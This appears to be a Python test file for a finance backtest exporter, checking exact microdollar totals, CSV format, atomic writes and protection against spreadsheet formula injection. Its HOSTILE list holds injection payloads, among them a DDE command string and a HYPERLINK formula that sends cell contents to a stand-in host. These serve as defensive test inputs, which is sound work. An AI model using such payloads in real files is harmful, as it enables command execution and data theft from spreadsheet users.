"""The files of a month: every figure to the microdollar, and no text that a spreadsheet takes for a formula."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from finance_os.backtest import exports
from finance_os.backtest.compare import BaselineRow, Spend, compare
from finance_os.backtest.exports import as_csv, as_xlsx, export, harmless, headings
from finance_os.backtest.month import Month
from finance_os.backtest.publishers import Publisher, Publishers
from finance_os.backtest.result import Result
from finance_os.backtest.rules import Rules
from finance_os.evidence.windows import Days

MARCH = Month(date(2026, 3, 1))
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\x01=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
)


def result_of(
    spends: dict[str, int], baseline: dict[str, int] | None = None, names: dict[str, str] | None = None
) -> Result:
    """A month in which each publisher spent so much, beside these accruals."""
    known = Publishers(Publisher(each, (names or {}).get(each), None, 7_000) for each in spends)
    rows = [
        BaselineRow(f"2026-03:{key}", key, key, None, {"accrual": amount, "cash": None, "deposit": None}, "hash")
        for key, amount in (baseline or {}).items()
    ]
    each = compare([Spend(key, micros, 1, 31, "e") for key, micros in spends.items()], rows, known, Rules())
    return Result("acme", MARCH, Days(MARCH.first, MARCH.last), Rules(), each)


def read_csv(result: Result) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(as_csv(result).decode(), newline="")))


def sheets(result: Result) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    """The rows of the first sheet, and the second one as name → value."""
    workbook = load_workbook(io.BytesIO(as_xlsx(result)))
    [names, *lines] = workbook["Backtest"].iter_rows(values_only=True)
    rows = [dict(zip(map(str, names), line, strict=True)) for line in lines]
    return rows, {str(line[0]): line[1] for line in workbook["Summary"].iter_rows(values_only=True)}


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_a_formula(text: str) -> None:
    result = result_of({text: 10, "b": 20}, {text: 7}, {text: text})
    [row] = [each for each in read_csv(result) if each["spend_microdollars"] == "10"]
    for column in ("publisher", "name"):
        assert row[column].startswith("'")
    workbook = load_workbook(io.BytesIO(as_xlsx(result)))
    cells = [cell for sheet in workbook for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
    assert [cell.value for cell in workbook["Backtest"]["B"]].count(harmless(text)) == 1
    with zipfile.ZipFile(io.BytesIO(as_xlsx(result))) as archive:
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist() if "worksheets" in name)


@given(st.text())
def test_what_is_harmless_is_kept_and_the_rest_is_quoted(text: str) -> None:
    written = harmless(text)
    first = written.lstrip()[:1]
    assert first not in ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    assert written[:1] not in ("\t", "\r", "\n")
    assert len(written.removeprefix("'")) == len(text.removeprefix("'"))


@pytest.mark.parametrize("text", ["Acorn Media", "a=b", "O'Neill", "5 - 3", "", "Škoda"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_numbers_stay_numbers() -> None:
    assert harmless(-5) == -5
    result = result_of({"a": 0}, {"a": 2 * 10**9})
    [row] = read_csv(result)
    assert (row["accrual_variance"], row["accrual_variance_microdollars"]) == ("-2000.000000", "-2000000000")
    assert (row["accrual_relative_variance"], row["accrual_class"], row["class"]) == ("-1.000000", "under", "under")
    [row], _ = sheets(result)
    assert (row["accrual_variance"], row["accrual_variance_microdollars"]) == (-2000, -2_000_000_000)


amounts = st.integers(0, 10**17)


@settings(max_examples=40)
@given(st.dictionaries(st.sampled_from("abcdef"), amounts), st.dictionaries(st.sampled_from("abcdxyz"), amounts))
def test_both_files_add_up_to_the_microdollar(spends: dict[str, int], baseline: dict[str, int]) -> None:
    result = result_of(spends, baseline)
    rows, summary = sheets(result)
    lines = read_csv(result)
    assert [row["publisher"] for row in rows] == [line["publisher"] for line in lines]
    assert len(rows) == len(result.rows)
    for of_file in (rows, lines):
        assert sum(int(row["spend_microdollars"] or 0) for row in of_file) == sum(spends.values())
    assert sum(Decimal(line["spend"] or 0) * 10**6 for line in lines) == sum(spends.values())
    assert sum(Decimal(line["accrual_baseline"] or 0) * 10**6 for line in lines) == sum(baseline.values())
    assert int(summary["spend_microdollars"]) == sum(spends.values())
    assert int(summary["baseline_accrual_microdollars"]) == sum(baseline.values())
    assert int(summary["records"]) == 31 * len(spends)
    assert summary["result hash"] == result.result_hash


def test_the_summary_says_by_which_rules_and_what_blocks() -> None:
    _, summary = sheets(result_of({"a": 5}))
    assert (summary["tolerance, basis points"], summary["compared with the baseline"]) == (10, "publisher_share")
    assert (summary["class no_baseline"], summary["in the way of a sign-off"]) == (1, "no_baseline_rows")


def test_a_csv_is_as_rfc_4180_has_it() -> None:
    text = as_csv(result_of({'a, "b"': 5})).decode()
    [head, row, end] = text.split("\r\n")
    assert (head, end) == (",".join(headings()), "")
    assert row.startswith('2026-03,"a, ""b""",')


def test_files_are_named_by_their_result_and_written_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "exports" / "acme"
    first, second = result_of({"a": 5}), result_of({"a": 6})
    written = export(first, folder)
    assert (written.csv.name, written.xlsx.name) == (
        f"2026-03-{first.result_hash}.csv",
        f"2026-03-{first.result_hash}.xlsx",
    )
    assert written.csv.read_bytes() == as_csv(first)
    assert export(first, folder) == written
    export(second, folder)
    assert len(list(folder.iterdir())) == 4

    def fail(*_: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(exports.os, "replace", fail)
    with pytest.raises(OSError, match="disk full"):
        export(result_of({"a": 7}), folder)
    assert len(list(folder.iterdir())) == 4  # nothing is left of it
